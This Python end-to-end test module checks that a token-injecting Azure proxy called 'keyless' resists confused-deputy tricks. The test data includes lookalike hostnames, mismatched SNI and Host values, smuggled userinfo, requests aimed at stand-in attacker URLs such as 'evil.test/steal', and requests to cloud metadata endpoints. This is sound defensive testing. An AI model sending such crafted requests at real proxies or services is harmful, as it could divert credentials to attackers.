"""The confused-deputy threat: crafted requests try to make keyless hand its token elsewhere.

keyless here dials the one real catalog host it knows (RECORDER_HOST:443) to the catalog
recorder, plain HTTP (:80) to an attacker's plain recorder and *everything else* to an
attacker's TLS recorder, whose certificate (from the test CA, not keyless') names the
attacker's hosts. Every attempt carries key material of its own (fresh secret values per
attempt), so keyless is tempted to convert. Each attempt's expected outcome is data in the
tables below, and it is what README.md ("What keyless guarantees", "Only Azure gets tokens")
promises:

- `Refused(status, code)`: keyless answers itself (at the CONNECT line or inside the tunnel)
  with the documented status and error code; *no* recorder receives anything.
- `Tunnelled()`: keyless does not look inside: the app is shown the attacker's own
  certificate (signed by the test CA, not by keyless' CA), and the attacker's recorder receives
  the app's request byte for byte as the app encrypted it for that server — so keyless added
  no token and changed nothing. (The app's own bytes, its key included, went where the app
  itself sent them over TLS end to end; keyless cannot see them, and the README promises that
  it does not.)
- `Converted()`: the names agree on a catalog host: that host (and only it) receives the
  request with `Authorization: Bearer <a token the fake identity endpoint issued>` and none of
  the attempt's key material.

And in every case: no recorder but the agreeing catalog host ever sees a token (a `Bearer`
value, any token the identity endpoint issued, anything JWT-shaped), and no recorder sees the
attempt's key material (SharedKey signature, SAS `sig`, `api-key`, HMAC signature, Cosmos
master key signature, SharedAccessSignature `sig`, Maps `subscription-key`) except, in
tunnelled cases, inside the app's own untouched bytes.

Mutations of the agreement check (proxy/authority.py `Destination.agreed_host`), each run
against this module and restored; the counts are tests that fail besides the known finding
below (55 tests in all):

- ignore the TLS server name (no `sni != connect_host` test, a missing SNI accepted): 4 fail —
  "TLS server name differs", "no TLS server name", "OpenAI api-key, SNI differs",
  "Service Bus SAS, no TLS server name" (converted, or 502 when the dialled upstream cannot
  prove the name, instead of 421).
- ignore the Host header (no `split_authority(host_header)` comparison): 10 fail — "trailing
  dot in Host only", "Host header differs", "catalog Host with another port", "userinfo in
  Host", "Cosmos master key, Host differs", "App Configuration HMAC, Host differs", "Maps key,
  Host differs", duplicate Host headers, HTTP/2 ":authority" evil and on another port.
- `return connect_host` always: 15 fail — the 14 above and "plain HTTP inside a catalog
  tunnel". (Proxied plain HTTP is not converted even so: when requestheaders runs, mitmproxy
  has no server address yet, so `connect_host` is None.)
- ignore the port, or ignore `app_used_tls`: 0 fail, and no forward- or reverse-mode request
  can tell: InterceptOnlyAzure tunnels every CONNECT not on 443 before any request is read
  ("catalog host on another port"), and a TLS server name implies TLS. Both rules are defence
  in depth (transparent mode, future callers); the unit tests cover them.

Other mutations, to see each kind of check fail: intercepting every CONNECT target (14 fail:
every Tunnelled attempt, the certificate is keyless'), a catalog matched with `re.match`
instead of `fullmatch` (7 fail, 5 of them "token delivered to an attacker"), a Storage
conversion that keeps `sig` (8 fail: every Converted attempt, key material at the catalog
host), attaching whatever the agreement says (18 fail), FailClosed taken out of the request
chain (2 fail: the cross-service attempts; the Cosmos master key reached the Storage host).

Known finding (kept failing on purpose): an absolute-form request whose URL has userinfo
("https userinfo without a tunnel", "http userinfo") is rejected by mitmproxy itself with a
400 page that echoes the whole request line — the SAS `sig` included — to the app, against
"No secrets in output … error bodies".
"""

from __future__ import annotations

import base64
import json
import re
import secrets
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

import h2.config
import h2.connection
import h2.events
import pytest
import requests
from cryptography import x509

from tests.e2e.conftest import DEAD_PROXY_ENV, RECORDER_HOST
from tests.support.azurite import TestPKI, free_port
from tests.support.identity_endpoint import FakeIdentityEndpoint
from tests.support.keyless import KeylessProcess
from tests.support.rawclient import Exchange, exchange, plain, request, status_of
from tests.support.upstreams import RecordedRequest, RecordingServer

pytestmark = pytest.mark.e2e
EVIL_NAMES = ("evil.test", "acct.blob.core.windows.net.evil.test", "evilcore.windows.net",
              "hijacked.blob.core.windows.net.evil.test", "acct.documents.azure.com.evil.test",
              "res.openai.azure.com.evil.test", "evilservicebus.windows.net",
              "atlas.microsoft.com.evil.test", "store.azconfig.io.evil.test")
COSMOS_HOST = "acct.documents.azure.com"
OPENAI_HOST = "res.openai.azure.com"
SERVICEBUS_HOST = "ns.servicebus.windows.net"
APPCONFIG_HOST = "store.azconfig.io"
MAPS_HOST = "atlas.microsoft.com"
# The attacker's TLS recorder listens on this loopback address, port 443, so that an IP-literal
# CONNECT (dialled as is: --connect-to applies to names only) reaches it too.
EVIL_IP = ".".join(["127", *(str(secrets.randbelow(200) + 20) for _ in range(3))])
JWT = re.compile(rb"eyJ[A-Za-z0-9_-]{4,}\.[A-Za-z0-9_-]{4,}\.")


# ---- key material: what each attempt sends, with fresh secret values ------------------------

@dataclass(frozen=True)
class Key:
    """The key material one attempt sends, and the exact secret values to look for."""

    headers: dict[str, str]
    query: str  # appended to the request path
    secrets: tuple[str, ...]  # every form in which the secret could travel

    def path(self, base: str = "/c/b") -> str:
        return f"{base}?{self.query}" if self.query else base


def _signature() -> str:
    return base64.b64encode(secrets.token_bytes(32)).decode()


def storage_key() -> Key:
    """Shared Key signature and a SAS in the query, as the Storage SDKs send them."""
    shared, sas = _signature(), _signature()
    return Key({"Authorization": f"SharedKey acct:{shared}", "x-ms-version": "2021-08-06"},
               f"sv=2021-08-06&sr=b&sp=r&se=2099-01-01&sig={quote(sas, safe='')}",
               (shared, sas, quote(sas, safe="")))


def cosmos_key() -> Key:
    sig = _signature()
    encoded = quote(f"type=master&ver=1.0&sig={sig}", safe="")
    return Key({"authorization": encoded, "x-ms-date": "Tue, 01 Dec 2026 21:00:00 GMT",
                "x-ms-version": "2018-12-31"}, "", (sig, quote(sig, safe="")))


def openai_key() -> Key:
    key = secrets.token_hex(16)
    return Key({"api-key": key}, "api-version=2024-02-01", (key,))


def servicebus_key() -> Key:
    sig = _signature()
    return Key({"Authorization": f"SharedAccessSignature sr=https%3A%2F%2F{SERVICEBUS_HOST}"
                f"&sig={quote(sig, safe='')}&se=4102444800&skn=RootManageSharedAccessKey"},
               "", (sig, quote(sig, safe="")))


def appconfig_key() -> Key:
    sig = _signature()
    return Key({"Authorization": "HMAC-SHA256 Credential=abcd-l0-s0:Zm9v&SignedHeaders="
                f"x-ms-date;host;x-ms-content-sha256&Signature={sig}",
                "x-ms-date": "Tue, 01 Dec 2026 21:00:00 GMT",
                "x-ms-content-sha256": "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="},
               "", (sig,))


def maps_key() -> Key:
    key = secrets.token_urlsafe(32)
    return Key({}, f"api-version=1.0&subscription-key={key}", (key,))


# ---- expected outcomes ---------------------------------------------------------------------

@dataclass(frozen=True)
class Refused:
    """keyless answers itself; nothing reaches any server."""

    status: int
    code: str
    at_connect: bool = False  # refused at the CONNECT line (no tunnel at all)


@dataclass(frozen=True)
class Tunnelled:
    """Not intercepted: the app sees the server's own certificate and the server gets the
    app's bytes unchanged."""


@dataclass(frozen=True)
class Converted:
    """All names agree on a catalog host: it alone gets a token, and no key material."""


Outcome = Refused | Tunnelled | Converted
MISDIRECTED = Refused(421, "KeylessMisdirectedRequest")
PLAIN_HTTP = Refused(403, "KeylessPlainHttpRefused")
DENIED_AT_CONNECT = Refused(403, "KeylessDestinationDenied", at_connect=True)
DENIED = Refused(403, "KeylessDestinationDenied")
# the last check before anything is sent (addons/failclosed.py): a key one of the names'
# services recognises, left in a request the CONNECT target's own service did not convert
KEY_NOT_CONVERTED = Refused(403, "KeylessKeyNotConverted")
UPSTREAM_FAILED = Refused(502, "KeylessUpstreamFailed")  # the upstream's TLS check failed
# mitmproxy's own answer to a malformed line, before any keyless hook sees it (no error code)
BAD_CONNECT = Refused(400, "", at_connect=True)
BAD_REQUEST = Refused(400, "")


@dataclass(frozen=True)
class Attempt:
    name: str
    connect: str | bytes  # the CONNECT target
    sni: str | None  # the TLS server name the app sends keyless
    host: str  # the Host header inside the tunnel
    key: Callable[[], Key]
    expect: Outcome
    target: str | None = None  # the request target (default: the key's origin-form path)
    tls: bool = True  # False: the app speaks plain HTTP inside the tunnel


H = RECORDER_HOST
TUNNEL_ATTEMPTS = [
    Attempt("control: all names agree", f"{H}:443", H, H, storage_key, Converted()),
    Attempt("control: Host with the explicit port 443", f"{H}:443", H, f"{H}:443", storage_key,
            Converted()),
    # lookalike names are not catalog hosts: tunnelled, keyless never decrypts
    Attempt("suffix trick", "acct.blob.core.windows.net.evil.test:443",
            "acct.blob.core.windows.net.evil.test", "acct.blob.core.windows.net.evil.test",
            storage_key, Tunnelled()),
    Attempt("suffix trick, Host says catalog", "acct.blob.core.windows.net.evil.test:443",
            "acct.blob.core.windows.net.evil.test", H, storage_key, Tunnelled()),
    Attempt("prefix trick", "evilcore.windows.net:443", "evilcore.windows.net",
            "evilcore.windows.net", storage_key, Tunnelled()),
    Attempt("trailing dot", f"{H}.:443", f"{H}.", f"{H}.", storage_key, Tunnelled()),
    Attempt("punycode lookalike account", "xn--cct-5cd1b.blob.core.windows.net:443",
            "xn--cct-5cd1b.blob.core.windows.net", "xn--cct-5cd1b.blob.core.windows.net",
            storage_key, Tunnelled()),
    Attempt("SNI and Host catalog, CONNECT elsewhere", "evil.test:443", H, H, storage_key,
            Tunnelled()),
    Attempt("catalog host on another port", f"{H}:8443", H, f"{H}:8443", storage_key,
            Tunnelled()),
    Attempt("IP literal", f"{EVIL_IP}:443", None, EVIL_IP, storage_key, Tunnelled()),
    Attempt("loopback name", "localhost:443", "localhost", H, storage_key, Tunnelled()),
    Attempt("Cosmos suffix trick", "acct.documents.azure.com.evil.test:443",
            "acct.documents.azure.com.evil.test", "acct.documents.azure.com.evil.test",
            cosmos_key, Tunnelled()),
    Attempt("OpenAI suffix trick", "res.openai.azure.com.evil.test:443",
            "res.openai.azure.com.evil.test", "res.openai.azure.com.evil.test", openai_key,
            Tunnelled()),
    Attempt("Service Bus prefix trick", "evilservicebus.windows.net:443",
            "evilservicebus.windows.net", "evilservicebus.windows.net", servicebus_key,
            Tunnelled()),
    Attempt("Maps lookalike", "atlas.microsoft.com.evil.test:443",
            "atlas.microsoft.com.evil.test", "atlas.microsoft.com.evil.test", maps_key,
            Tunnelled()),
    Attempt("App Configuration lookalike", "store.azconfig.io.evil.test:443",
            "store.azconfig.io.evil.test", "store.azconfig.io.evil.test", appconfig_key,
            Tunnelled()),
    # a catalog CONNECT target whose other names disagree: intercepted, then refused
    Attempt("trailing dot in Host only", f"{H}:443", H, f"{H}.", storage_key, MISDIRECTED),
    Attempt("Host header differs", f"{H}:443", H, "evil.test", storage_key, MISDIRECTED),
    Attempt("catalog Host with another port", f"{H}:443", H, f"{H}:8443", storage_key,
            MISDIRECTED),
    Attempt("TLS server name differs", f"{H}:443", "evil.test", H, storage_key, MISDIRECTED),
    Attempt("no TLS server name", f"{H}:443", None, H, storage_key, MISDIRECTED),
    Attempt("userinfo in Host", f"{H}:443", H, f"evil.test@{H}", storage_key, MISDIRECTED),
    Attempt("plain HTTP inside a catalog tunnel", f"{H}:443", None, H, storage_key, PLAIN_HTTP,
            tls=False),
    Attempt("Cosmos master key, Host differs", f"{COSMOS_HOST}:443", COSMOS_HOST, "evil.test",
            cosmos_key, MISDIRECTED),
    Attempt("OpenAI api-key, SNI differs", f"{OPENAI_HOST}:443", "evil.test", OPENAI_HOST,
            openai_key, MISDIRECTED),
    Attempt("Service Bus SAS, no TLS server name", f"{SERVICEBUS_HOST}:443", None,
            SERVICEBUS_HOST, servicebus_key, MISDIRECTED),
    Attempt("App Configuration HMAC, Host differs", f"{APPCONFIG_HOST}:443", APPCONFIG_HOST,
            "evil.test", appconfig_key, MISDIRECTED),
    Attempt("Maps key, Host differs", f"{MAPS_HOST}:443", MAPS_HOST, "evil.test", maps_key,
            MISDIRECTED),
    # names that disagree across services: the CONNECT target's service (Storage) does not
    # know the key, the service another name points to does
    Attempt("Host names a Cosmos account, CONNECT a Storage account", f"{H}:443", H,
            COSMOS_HOST, cosmos_key, KEY_NOT_CONVERTED),
    Attempt("SNI names an OpenAI resource, CONNECT a Storage account", f"{H}:443", OPENAI_HOST,
            H, openai_key, KEY_NOT_CONVERTED),
    # every name agrees, but the request target is an absolute URL naming the attacker: the
    # request goes to the CONNECT target only (the agreeing catalog host), never to evil.test
    Attempt("absolute-form URL naming the attacker inside the tunnel", f"{H}:443", H, H,
            storage_key, Converted(), target="https://evil.test/steal"),
    # a catalog name the attacker hijacked (DNS) but cannot prove with a certificate
    Attempt("hijacked catalog name", "hijacked.blob.core.windows.net:443",
            "hijacked.blob.core.windows.net", "hijacked.blob.core.windows.net", storage_key,
            UPSTREAM_FAILED),
    Attempt("hijacked Cosmos name", f"{COSMOS_HOST}:443", COSMOS_HOST, COSMOS_HOST, cosmos_key,
            UPSTREAM_FAILED),
    # malformed CONNECT lines
    Attempt("CONNECT with userinfo", f"evil.test@{H}:443", H, H, storage_key, BAD_CONNECT),
    Attempt("Unicode lookalike CONNECT target", "аcct.blob.core.windows.net:443".encode(),
            None, H, storage_key, BAD_CONNECT),  # a Cyrillic а
    # metadata and host-agent addresses: never connected to
    Attempt("metadata endpoint", "169.254.169.254:80", None, "169.254.169.254", storage_key,
            DENIED_AT_CONNECT),
    Attempt("metadata endpoint on 443", "169.254.169.254:443", None, "169.254.169.254",
            storage_key, DENIED_AT_CONNECT),
    Attempt("AWS IPv6 metadata endpoint", "[fd00:ec2::254]:80", None, "[fd00:ec2::254]",
            storage_key, DENIED_AT_CONNECT),
    Attempt("Azure host agent", "168.63.129.16:80", None, "168.63.129.16", storage_key,
            DENIED_AT_CONNECT),
]

# (name, absolute-form request target, Host header, key, expected) sent without a tunnel
PLAIN_ATTEMPTS = [
    ("plain HTTP to catalog host", f"http://{H}/c/b", H, storage_key, PLAIN_HTTP),
    ("https URL without a tunnel", f"https://{H}/c/b", H, storage_key, PLAIN_HTTP),
    ("https userinfo without a tunnel", f"https://evil.test@{H}/c/b", H, storage_key,
     BAD_REQUEST),
    ("http userinfo", f"http://evil.test@{H}/c/b", H, storage_key, BAD_REQUEST),
    ("Cosmos master key over plain HTTP", f"http://{COSMOS_HOST}/dbs", COSMOS_HOST,
     cosmos_key, PLAIN_HTTP),
    ("plain HTTP to the metadata endpoint",
     "http://169.254.169.254/metadata/identity/oauth2/token", "169.254.169.254", storage_key,
     DENIED),
]


# ---- the stage -----------------------------------------------------------------------------

class Leaky:
    def __init__(self, keyless: KeylessProcess, identity: FakeIdentityEndpoint, pki: TestPKI,
                 evil_tls: RecordingServer, evil_plain: RecordingServer,
                 catalog: RecordingServer, reverse_port: int) -> None:
        self.keyless, self.identity, self.pki = keyless, identity, pki
        self.evil_tls, self.evil_plain, self.catalog = evil_tls, evil_plain, catalog
        self.reverse_port = reverse_port
        self.keyless_ca = x509.load_pem_x509_certificate(Path(keyless.ca_path).read_bytes())
        self.test_ca = x509.load_pem_x509_certificate(Path(pki.ca_pem_path).read_bytes())

    @property
    def port(self) -> int:
        return self.keyless.port

    def marks(self) -> tuple[int, int, int]:
        return (len(self.evil_tls.requests), len(self.evil_plain.requests),
                len(self.catalog.requests))

    def since(self, marks: tuple[int, int, int]) -> tuple[list[RecordedRequest], ...]:
        return (self.evil_tls.requests[marks[0]:], self.evil_plain.requests[marks[1]:],
                self.catalog.requests[marks[2]:])


def tokens_in(record: RecordedRequest, issued: list[str]) -> list[str]:
    """Every trace of a token in what a server received (names only, never the values)."""
    found = [f"{name}: Bearer…" for name, value in record.headers
             if "bearer" in value.lower() or "type%3daad" in value.lower()
             or "type=aad" in value.lower()]
    found += ["an issued Entra token" for token in issued if token.encode() in record.raw]
    if JWT.search(record.raw):
        found.append("a JWT")
    return found


def where(record: RecordedRequest) -> str:
    """A record's path without its query (which may hold the very secret being reported)."""
    return record.path.partition("?")[0]


def secrets_in(record: RecordedRequest | bytes, key: Key) -> list[str]:
    raw = record.raw if isinstance(record, RecordedRequest) else record
    return [f"secret #{i}" for i, secret in enumerate(key.secrets) if secret.encode() in raw]


def error_code(response: bytes) -> str:
    head, _, body = response.partition(b"\r\n\r\n")
    for line in head.split(b"\r\n")[1:]:
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"x-ms-error-code":
            header_code = value.strip().decode()
            assert json.loads(body)["error"]["code"] == header_code, response[:300]
            return header_code
    return ""


def assert_outcome(leaky: Leaky, expect: Outcome, marks: tuple[int, int, int], key: Key,
                   sent: bytes, status: int, response: bytes,
                   shown: x509.Certificate | None = None) -> None:
    evil_tls, evil_plain, catalog = leaky.since(marks)
    issued = leaky.identity.issued
    # Never, whatever the outcome: a token at an attacker, key material in keyless' answer.
    for record in (*evil_tls, *evil_plain):
        assert tokens_in(record, issued) == [], f"token delivered to an attacker: {where(record)}"
    assert secrets_in(response, key) == [], "keyless echoed the app's key material"
    if isinstance(expect, Refused):
        assert (status, error_code(response)) == (expect.status, expect.code), response[:300]
        assert (evil_tls, evil_plain, catalog) == ([], [], []), \
            "a refused request reached a server"
    elif isinstance(expect, Tunnelled):
        assert shown is not None, "no certificate shown"
        assert shown.issuer != leaky.keyless_ca.subject, "keyless intercepted"
        shown.verify_directly_issued_by(leaky.test_ca)  # the attacker's own certificate
        assert [r.raw for r in evil_tls] == [sent], "the tunnel changed the app's bytes"
        assert (evil_plain, catalog) == ([], []), "the tunnelled request went elsewhere too"
        assert status_of(response) == 200, response[:300]
    else:
        assert status == 200 and status_of(response) == 200, response[:300]
        assert (evil_tls, evil_plain) == ([], []), "an attacker received the request"
        assert len(catalog) == 1, f"{len(catalog)} requests reached the catalog host"
        (seen,) = catalog
        authorization = seen.header("authorization") or ""
        assert authorization.removeprefix("Bearer ") in issued, \
            "the catalog host did not get a token the identity endpoint issued"
    for record in (*evil_plain, *catalog) if isinstance(expect, Tunnelled) else \
            (*evil_tls, *evil_plain, *catalog):
        assert secrets_in(record, key) == [], f"the app's key material reached {where(record)}"


@pytest.fixture(scope="module")
def leaky(tmp_path_factory, pki, module_identity, catalog_recorder) -> Iterator[Leaky]:
    reverse_port = free_port()
    with RecordingServer(tls=pki.issue_server_cert(EVIL_IP, *EVIL_NAMES),
                         address=(EVIL_IP, 443)) as evil_tls, \
            RecordingServer() as evil_plain:
        process = KeylessProcess(
            tmp_path_factory.mktemp("keyless-leaks"),
            [
                "--connect-to", f"{RECORDER_HOST}:443:127.0.0.1:{catalog_recorder.port}",
                "--connect-to", f":80:127.0.0.1:{evil_plain.port}",
                "--connect-to", f"::{EVIL_IP}:443",  # everything else: the attacker
                "--set", f"ssl_verify_upstream_trusted_ca={pki.ca_pem_path}",
                "--reverse", f"{reverse_port}=https://{RECORDER_HOST}",
                "--maps-client-id", "3a3a3a3a-0000-4000-8000-00000000a71a",
            ],
            {**module_identity.env(), **DEAD_PROXY_ENV},
        ).start()
        try:
            yield Leaky(process, module_identity, pki, evil_tls, evil_plain, catalog_recorder,
                        reverse_port)
        finally:
            assert process.stop() == 0, process.log()


# ---- the attempts --------------------------------------------------------------------------

@pytest.mark.parametrize("attempt", TUNNEL_ATTEMPTS, ids=[a.name for a in TUNNEL_ATTEMPTS])
def test_crafted_tunnel(leaky, attempt):
    key = attempt.key()
    sent = request("GET", attempt.target or key.path(), attempt.host, key.headers)
    marks = leaky.marks()
    seen: Exchange = exchange(leaky.port, attempt.connect, attempt.sni, sent, tls=attempt.tls)
    expect = attempt.expect
    if isinstance(expect, Refused) and expect.at_connect:
        assert_outcome(leaky, expect, marks, key, sent, seen.connect_status, seen.response)
        return
    assert seen.connect_status == 200, seen.response[:300]
    assert_outcome(leaky, expect, marks, key, sent, status_of(seen.response), seen.response,
                   seen.certificate())


@pytest.mark.parametrize(("name", "target", "host", "make_key", "expect"), PLAIN_ATTEMPTS,
                         ids=[p[0] for p in PLAIN_ATTEMPTS])
def test_absolute_form_without_a_tunnel(leaky, name, target, host, make_key, expect):
    key = make_key()
    path = target + (f"?{key.query}" if key.query else "")
    sent = request("GET", path, host, key.headers)
    marks = leaky.marks()
    response = plain(leaky.port, sent)
    assert_outcome(leaky, expect, marks, key, sent, status_of(response), response)


def test_duplicate_host_headers(leaky):
    key = storage_key()
    sent = (f"GET {key.path()} HTTP/1.1\r\nHost: {H}\r\nHost: evil.test\r\n"
            f"Authorization: {key.headers['Authorization']}\r\nContent-Length: 0\r\n"
            "Connection: close\r\n\r\n").encode()
    marks = leaky.marks()
    seen = exchange(leaky.port, f"{H}:443", H, sent)
    assert seen.connect_status == 200
    assert_outcome(leaky, MISDIRECTED, marks, key, sent, status_of(seen.response),
                   seen.response)


def h2_answer(conn: h2.connection.H2Connection, data: bytes) -> tuple[int, bytes]:
    """The :status and body of stream 1 in the server's HTTP/2 bytes, and the answer as
    HTTP/1 bytes for the error-code reader."""
    status, headers, body = 0, b"", b""
    for event in conn.receive_data(data):
        if isinstance(event, h2.events.ResponseReceived):
            for name, value in event.headers:
                if name == b":status":
                    status = int(value)
                else:
                    headers += name + b": " + value + b"\r\n"
        elif isinstance(event, h2.events.DataReceived):
            body += event.data
    return status, b"HTTP/2 %d -\r\n" % status + headers + b"\r\n" + body


@pytest.mark.parametrize(("authority", "expect"),
                         [(H, Converted()), ("evil.test", MISDIRECTED),
                          (f"{H}:8443", MISDIRECTED)],
                         ids=["control", "evil authority", "catalog authority on another port"])
def test_http2_authority(leaky, authority, expect):
    key = storage_key()
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    conn.send_headers(1, [(":method", "GET"), (":scheme", "https"), (":authority", authority),
                          (":path", key.path()), *key.headers.items()], end_stream=True)
    sent = conn.data_to_send()
    marks = leaky.marks()
    seen = exchange(leaky.port, f"{H}:443", H, sent, alpn=["h2"], timeout=3)
    assert seen.alpn == "h2", "keyless did not speak HTTP/2: the attempt would prove nothing"
    status, response = h2_answer(conn, seen.response)
    assert_outcome(leaky, expect, marks, key, sent, status, response)


# Reverse mode: keyless' own --reverse setting names the destination, so whatever the app
# writes in its request, the token goes to the configured catalog host and nowhere else.
REVERSE_ATTEMPTS = [
    ("control", "/c/b", H),
    ("Host header names the attacker", "/c/b", "evil.test"),
    ("absolute-form URL naming the attacker", "http://evil.test/steal", "evil.test"),
    ("absolute-form https URL naming another catalog host",
     "https://hijacked.blob.core.windows.net/c/b", "hijacked.blob.core.windows.net"),
]


@pytest.mark.parametrize(("name", "target", "host"), REVERSE_ATTEMPTS,
                         ids=[r[0] for r in REVERSE_ATTEMPTS])
def test_reverse_mode_sends_the_token_only_to_the_configured_host(leaky, name, target, host):
    key = storage_key()
    path = target + f"?{key.query}"
    sent = request("GET", path, host, key.headers)
    marks = leaky.marks()
    response = plain(leaky.reverse_port, sent)
    assert_outcome(leaky, Converted(), marks, key, sent, status_of(response), response)


def test_reverse_mode_refuses_to_tunnel(leaky):
    marks = leaky.marks()
    sent = b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n"
    response = plain(leaky.reverse_port, sent, timeout=3)
    assert status_of(response) == 400, response[:300]  # mitmproxy's own: not a forward proxy
    assert leaky.since(marks) == ([], [], []), "the reverse listener opened a tunnel"


def test_redirect_to_a_foreign_host_is_not_followed_with_a_token(leaky, monkeypatch):
    leaky.catalog.responses["/moved"] = (302, {"Location": "https://evil.test/steal"})
    monkeypatch.setenv("HTTPS_PROXY", leaky.keyless.proxy_url)
    monkeypatch.delenv("NO_PROXY", raising=False)
    key = storage_key()
    marks = leaky.marks()
    response = requests.get(f"https://{H}{key.path('/moved')}", headers=key.headers,
                            verify=False, timeout=10)
    assert response.status_code == 200
    assert response.url == "https://evil.test/steal"  # the app followed, keyless did not help
    evil_tls, evil_plain, catalog = leaky.since(marks)
    assert [r.path for r in evil_tls] == ["/steal"] and evil_plain == []
    assert len(catalog) == 1 and catalog[0].path == "/moved"
    assert (catalog[0].header("authorization") or "").removeprefix("Bearer ") in \
        leaky.identity.issued
    for record in (*evil_tls, *catalog):
        assert secrets_in(record, key) == [], f"the app's key material reached {where(record)}"
    assert tokens_in(evil_tls[0], leaky.identity.issued) == []
